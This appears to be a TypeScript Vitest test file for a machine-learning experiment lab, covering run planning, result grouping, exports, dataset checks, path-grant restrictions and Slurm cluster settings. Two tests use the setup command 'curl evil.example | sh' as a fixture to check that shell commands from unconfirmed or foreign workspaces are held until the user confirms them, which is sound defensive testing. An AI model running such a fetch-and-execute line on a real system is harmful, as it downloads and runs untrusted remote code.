import { existsSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, expect, onTestFinished, test, vi } from 'vitest';
import { LabError } from '../../shared/errors.ts';
import type { Experiment } from '../../shared/experiment.ts';
import { slurmSettingsSchema } from '../../shared/places.ts';
import { fileStem } from '../../src-main/lab/export/fileName.ts';
import { openLabToRead } from '../../src-main/lab/service.ts';
import { everyGroup, usualExport } from '../../shared/result.ts';
import { esam, experimentOf, sam, sgd, shared } from './fixtures/configs.ts';
import { labOptions } from './fixtures/labOptions.ts';
import { openTestLab, statesOf, temporaryFolder, untilEnded } from './fixtures/labs.ts';
import { scripts } from './fixtures/scripts.ts';

afterEach(() => void vi.unstubAllEnvs());

type Lab = Awaited<ReturnType<typeof openTestLab>>['lab'];

const trainAll = async (lab: Lab, experiment: Experiment) => {
  const { experimentId, runIds } = await lab.enqueue(experiment);
  await Promise.all(runIds.map((id) => untilEnded(lab, id)));
  return { experimentId, runIds };
};

const queryOf = (...experimentIds: number[]) => ({ ...everyGroup, experimentIds });

test('a plan knows what is finished and how long the rest will take', async () => {
  const { lab } = await openTestLab();
  const experiment = experimentOf({ arms: [sgd, sam], seeds: [1, 2, 2], skipFinished: true });
  expect((await lab.plan(experiment)).map(({ finishedRunId, estimatedMs }) => [finishedRunId, estimatedMs])).toEqual(
    Array(4).fill([null, null]), // the seed that is given twice counts once
  );
  await trainAll(lab, experimentOf({ arms: [sgd], seeds: [1] }));
  const planned = await lab.plan(experiment);
  expect(planned).toMatchObject([
    { method: 'sgd', config: { seed: 1 }, finishedRunId: 1 },
    { method: 'sam', config: { seed: 1 }, finishedRunId: null },
    { method: 'sgd', config: { seed: 2 }, finishedRunId: null },
    { method: 'sam', config: { seed: 2 }, finishedRunId: null },
  ]);
  // The script takes 1 ms an image and 100 ms an evaluation: 3 epochs × (100 images × 1 ms + 100 ms), after its start. SAM's steps cost 6 units to SGD's 3.
  const [first = NaN, ...others] = planned.map(({ estimatedMs }) => estimatedMs ?? NaN);
  expect(first).toBeGreaterThan(600);
  expect(others.map((ms) => ms - first)).toEqual([300, 0, 300].map((ms) => expect.closeTo(ms, 6) as number));
});

test('an experiment that skips finished runs still shows their groups, in the order of its arms', async () => {
  const { lab } = await openTestLab();
  await trainAll(lab, experimentOf({ arms: [sam], seeds: [1, 2] }));
  const { experimentId, runIds } = await trainAll(
    lab,
    experimentOf({ arms: [sgd, sam, esam], seeds: [1], skipFinished: true }),
  );
  expect(runIds).toHaveLength(2);
  const table = await lab.results(queryOf(experimentId));
  expect(table.rows.map(({ label, n, seeds }) => [label, n, seeds])).toEqual([
    ['SGD', 1, [1]],
    ['SAM', 2, [1, 2]],
    ['ESAM', 1, [1]],
  ]);
  expect(await lab.experiments({})).toMatchObject([
    { id: 2, runCount: 2, finishedCount: 2 },
    { id: 1, runCount: 2, finishedCount: 2 },
  ]);
});

test('a repeated seed is no second sample; unfinished and deleted runs do not count', async () => {
  const { lab } = await openTestLab();
  const { experimentId } = await trainAll(lab, experimentOf({ seeds: [1, 2, scripts.crash] }));
  const { runIds } = await lab.repeatRuns({ runIds: [1] });
  expect(runIds).toEqual([4]);
  await untilEnded(lab, 4);
  expect((await lab.results(queryOf(experimentId))).rows).toMatchObject([
    { n: 2, seeds: [1, 2], runIds: [4, 2], unfinishedRunIds: [3] },
  ]);
  await lab.deleteRuns({ runIds: [2, 3, 4], deleted: true });
  expect((await lab.results(queryOf(experimentId))).rows).toMatchObject([{ n: 1, runIds: [1], unfinishedRunIds: [] }]);
  await lab.deleteRuns({ runIds: [2], deleted: false });
  expect((await lab.results(queryOf())).rows).toMatchObject([{ n: 2 }]);
});

test('curves and exports come from the same groups', async () => {
  const { lab } = await openTestLab();
  const { experimentId } = await trainAll(lab, experimentOf({ seeds: [1, 3] }));
  const query = queryOf(experimentId);
  const [curve] = await lab.curves({ query, metric: 'testAccuracy', axis: 'activeTime', relativeTo: null });
  // Seeds 1 and 3: 0.41 and 0.43 in epochs 1 and 3, 0.51 and 0.53 in epoch 2; a second of steps an epoch.
  expect(curve?.points.map(({ x }) => x)).toEqual([1, 2, 3]);
  expect(curve?.points[1]?.mean).toBeCloseTo(0.52, 12);
  expect(curve?.points[1]?.sd).toBeCloseTo(0.02 / Math.SQRT2, 12);
  const { text, fileName } = await lab.exportResults({ query, format: 'markdown', ...usualExport });
  const [experiment] = await lab.experiments({});
  expect(fileName).toBe(`${fileStem([experiment?.experiment.name ?? ''])}-results.md`);
  expect(text).toContain('| SGD | 2 | 42.00 ± 1.41 | 52.00 ± 1.41 |');
});

test('of more groups than are wanted there are no curves', async () => {
  const { lab } = await openTestLab();
  const { experimentId } = await trainAll(lab, experimentOf({ arms: [sgd, sam], seeds: [1] }));
  const wish = { query: queryOf(experimentId), metric: 'testAccuracy', axis: 'epoch', relativeTo: null } as const;
  const all = await lab.curves(wish);
  expect(all).toHaveLength(2);
  expect(await lab.curves({ ...wish, mostGroups: 2 })).toEqual(all);
  expect(await lab.curves({ ...wish, mostGroups: 1 })).toEqual([]);
});

test('without an engine a run stays queued, and the queue says why', async () => {
  vi.stubEnv('ESAM_LAB_CACHE', temporaryFolder());
  vi.stubEnv('ESAM_LAB_TENSORFLOW_BINDING', '');
  const { lab } = await openTestLab();
  const onTensorflow = { ...shared, device: { ...shared.device, engine: 'tensorflow' as const } };
  await lab.enqueue(experimentOf({ shared: onTensorflow }));
  await expect.poll(() => lab.queue({})).toMatchObject({ paused: true, running: [], waiting: [{ id: 1 }] });
  const { engines, notices } = await lab.deviceStatus({});
  expect(engines).toMatchObject([
    { id: 'tensorflow', state: 'missing' },
    { id: 'wasm', state: 'ready' },
  ]);
  expect(notices).toEqual([`The queue waits: ${engines[0]?.reason ?? ''}`]);
  await lab.pauseQueue({ paused: false });
  await expect.poll(() => lab.queue({})).toMatchObject({ paused: true, waiting: [{ id: 1 }] });
  await lab.cancelRuns({ runIds: [1] });
  expect(await statesOf(lab)).toEqual(['cancelled']);
  vi.unstubAllEnvs();
});

test('an experiment on a set that is not there, or too small, is refused', async () => {
  const { lab } = await openTestLab();
  const on = (dataset: Partial<typeof shared.dataset>) =>
    experimentOf({ shared: { ...shared, dataset: { ...shared.dataset, ...dataset } } });
  await expect(lab.enqueue(on({ id: 'imagenet' }))).rejects.toMatchObject({ code: 'DATASET_NOT_FOUND' });
  await expect(lab.enqueue(on({ trainSubset: 1_000_000 }))).rejects.toMatchObject({ code: 'CONFIG_INVALID' });
  expect(await lab.experiments({})).toEqual([]);
});

test('an experiment whose model cannot take the images is refused with the reason, and nothing is queued', async () => {
  const { lab } = await openTestLab();
  for (const id of ['resnet50', 'vit-s16'] as const) {
    // MNIST's images are 28×28: less than five halvings need, and no multiple of a patch's 16.
    const refusal = await lab.enqueue(experimentOf({ shared: { ...shared, model: { id } } })).catch(String);
    expect(refusal).toMatch(/needs square images of at least .*but the data set's are 28×28\. Choose another model/);
  }
  const augmentation = { ...shared.augmentation, resolution: 32 };
  const resized = lab.enqueue(experimentOf({ shared: { ...shared, augmentation } }));
  await expect(resized).rejects.toThrow(/MNIST holds images of one size, but a resolution of 32 was asked for/);
  expect(await lab.experiments({})).toEqual([]);
  expect(await lab.runs({ experimentId: null })).toEqual([]);
});

test('what was asked before is answered anew once anything was written, also for one who looks from beside', async () => {
  const { lab, folder } = await openTestLab();
  const { runIds } = await trainAll(lab, experimentOf({ seeds: [1] }));
  const beside = await openLabToRead(labOptions(folder), new LabError('WORKSPACE_BUSY', 'Only looked at.'));
  onTestFinished(() => beside.close());
  const query = everyGroup;
  const seen = async (asked: Lab) => {
    const [{ rows }, curves, runs] = await Promise.all([
      asked.results(query),
      asked.curves({ query, metric: 'testAccuracy', axis: 'epoch', relativeTo: null }),
      asked.runs({ experimentId: null }),
    ]);
    return [rows[0]?.n, curves[0]?.points[0]?.n, runs.map(({ experimentName }) => experimentName)];
  };
  const both = async () => [await seen(lab), await seen(beside)];
  expect(await both()).toEqual(Array(2).fill([1, 1, ['Test']]));
  await trainAll(lab, experimentOf({ seeds: [2] }));
  expect(await both()).toEqual(Array(2).fill([2, 2, ['Test', 'Test']]));
  await lab.deleteRuns({ runIds, deleted: true });
  expect(await both()).toEqual(Array(2).fill([1, 1, ['Test']]));
});

test('the newest groups come with all of their runs, and alone', async () => {
  const { lab } = await openTestLab();
  const { runIds: first } = await lab.enqueue(experimentOf({ seeds: [1, 2] }));
  const wider = { ...shared, batchSize: shared.batchSize * 2 };
  const { runIds: second } = await lab.enqueue(experimentOf({ shared: wider, seeds: [1] }));
  const { runIds: again } = await lab.enqueue(experimentOf({ seeds: [3] })); // one more of the first group
  const newest = async (groups: number) => (await lab.newestRuns({ groups })).map(({ id }) => id);
  expect(await newest(1)).toEqual([...first, ...again]);
  expect(await newest(2)).toEqual([...first, ...second, ...again]);
});

test('only what the user has chosen can be imported, links included', async () => {
  const { lab } = await openTestLab();
  const folder = temporaryFolder();
  const secret = join(temporaryFolder(), 'secret');
  writeFileSync(secret, 'secret');
  const chosen = join(folder, 'chosen');
  mkdirSync(chosen);
  writeFileSync(join(chosen, 'file'), 'no data set');
  symlinkSync(secret, join(chosen, 'link'));
  lab.grantPaths([chosen]);
  const importing = (path: string) =>
    lab.importDataset({ kind: 'auto', paths: [path], name: null, onDamaged: 'refuse' });
  const refused = { code: 'PATH_NOT_GRANTED' };
  await expect(importing(secret)).rejects.toMatchObject(refused);
  await expect(importing(join(chosen, 'link'))).rejects.toMatchObject(refused);
  await expect(importing(`${chosen}-other`)).rejects.toMatchObject(refused);
  await expect(importing(join(chosen, '..', 'other'))).rejects.toMatchObject(refused);
  await expect(importing(join(chosen, 'file'))).rejects.toMatchObject({
    code: expect.stringMatching(/^DATASET_/) as string,
  });
});

test('what a cluster’s shell runs is changed once it was confirmed outside the page; the rest is not asked for', async () => {
  vi.stubEnv('XDG_STATE_HOME', temporaryFolder());
  const { lab } = await openTestLab();
  const settings = slurmSettingsSchema.parse({ partition: 'long', setup: ['curl evil.example | sh'] });
  await expect(lab.changePlace({ id: 'slurm', settings })).rejects.toMatchObject({ code: 'PLACE_NOT_CONFIRMED' });
  await lab.changePlace({ id: 'slurm', settings: { ...settings, setup: [] } });
  lab.confirmPlace('slurm', settings);
  await expect(lab.changePlace({ id: 'slurm', settings: { ...settings, container: 'other' } })).rejects.toMatchObject({
    code: 'PLACE_NOT_CONFIRMED',
  });
  await lab.changePlace({ id: 'slurm', settings: { ...settings, cores: 2 } });
  expect((await lab.places({}))[0]?.settings).toEqual({ ...settings, cores: 2 });
});

test('what a workspace from somebody else has a shell run for its cluster is run once this user has confirmed it', async () => {
  const commands = temporaryFolder();
  const asked = join(commands, 'asked');
  writeFileSync(join(commands, 'sbatch'), `#!/bin/sh\necho "$@" >>${asked}\necho slurm-wlm 22\n`, { mode: 0o755 });
  vi.stubEnv('PATH', `${commands}:${process.env['PATH'] ?? ''}`);
  vi.stubEnv('XDG_STATE_HOME', temporaryFolder());
  const theirs = await openTestLab();
  await theirs.lab.pauseQueue({ paused: true });
  const settings = slurmSettingsSchema.parse({ setup: ['curl evil.example | sh'] });
  theirs.lab.setPlace('slurm', settings);
  await theirs.lab.enqueue({ ...experimentOf(), place: 'slurm' });
  await theirs.lab.close();

  rmSync(asked, { force: true });
  vi.stubEnv('XDG_STATE_HOME', temporaryFolder()); // another user's
  const { lab } = await openTestLab(theirs.folder, { clusterTimes: { readEveryMs: 20, askEveryMs: 20 } });
  await lab.pauseQueue({ paused: false });
  const problem = async (): Promise<string | undefined> => (await lab.queue({})).placeProblem;
  await expect.poll(problem).toMatch(/set by somebody else, or on another machine.*places confirm slurm/);
  await lab.changePlace({ id: 'slurm', settings: { ...settings, cores: 2 } }); // as a page may
  expect((await lab.places({}))[0]).toMatchObject({ version: null, isConfirmed: false });
  await expect(lab.testPlace({ id: 'slurm' })).rejects.toMatchObject({ code: 'PLACE_NOT_CONFIRMED' });
  expect(existsSync(asked)).toBe(false);
  lab.confirmPlace('slurm', settings);
  await expect.poll(() => existsSync(asked)).toBe(true);
  expect((await lab.places({}))[0]).toMatchObject({ version: 'slurm-wlm 22', isConfirmed: true });
});

test('a data set that a run waits for is not deleted', async () => {
  const { lab } = await openTestLab();
  await lab.pauseQueue({ paused: true });
  await lab.enqueue(experimentOf());
  await expect(lab.deleteDataset({ id: 'mnist' })).rejects.toMatchObject({ code: 'RUN_STATE' });
});
